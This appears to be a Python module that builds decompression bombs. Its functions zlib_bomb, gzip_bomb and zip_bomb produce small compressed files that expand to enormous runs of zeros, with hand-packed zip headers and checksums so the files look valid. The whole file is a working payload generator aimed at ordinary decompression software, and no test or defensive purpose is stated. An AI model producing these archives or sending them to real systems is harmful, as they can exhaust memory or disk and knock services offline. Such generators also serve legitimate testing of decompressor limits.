"""Compressed files of some bytes and very many zeros behind them.

A block of zeros is compressed once and stands in the stream as often as it takes:
compressing them all takes seconds.
"""

import struct
import zlib

BLOCK = bytes(1 << 20)
DEFLATED = 8
"""The method of a member of a zip archive."""
FIRST_DAY = 0x21
"""1 January 1980, as zip archives say it."""


def zlib_bomb(head, zeros):
    """Returns bytes and a number of zeros as a stream of zlib."""
    checksum = zlib.adler32(bytes(zeros), zlib.adler32(head))
    return b"\x78\xda" + _deflated(head, zeros) + struct.pack(">L", checksum)


def gzip_bomb(head, zeros):
    """Returns bytes and a number of zeros as a file of gzip."""
    start = b"\x1f\x8b\x08" + bytes(6) + b"\xff"
    end = struct.pack("<2L", _crc(head, zeros), len(head) + zeros)
    return start + _deflated(head, zeros) + end


def zip_bomb(members):
    """Returns a zip archive.

    # Arguments
        members: dict from names to bytes and a number of zeros.
    """
    archive = b""
    directory = b""
    for name, (head, zeros) in members.items():
        data = _deflated(head, zeros)
        sizes = (len(data), len(head) + zeros)
        said = struct.pack(
            "<5H3L2H",
            *(20, 0, DEFLATED, 0, FIRST_DAY),
            *(_crc(head, zeros), *sizes),
            *(len(name), 0),
        )
        place = struct.pack("<3H2L", 0, 0, 0, 0, len(archive))
        directory += b"PK\x01\x02" + struct.pack("<H", 20) + said + place
        directory += name.encode()
        archive += b"PK\x03\x04" + said + name.encode() + data
    count = len(members)
    end = struct.pack("<4H2LH", 0, 0, count, count, len(directory), len(archive), 0)
    return archive + directory + b"PK\x05\x06" + end


def _deflated(head, zeros):
    """Returns a stream in which each part was compressed without what is before it."""
    count, rest = divmod(zeros, len(BLOCK))
    last = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS).flush()
    return _part(head) + _part(BLOCK) * count + _part(bytes(rest)) + last


def _part(data):
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return compressor.compress(data) + compressor.flush(zlib.Z_FULL_FLUSH)


def _crc(head, zeros):
    return zlib.crc32(bytes(zeros), zlib.crc32(head))
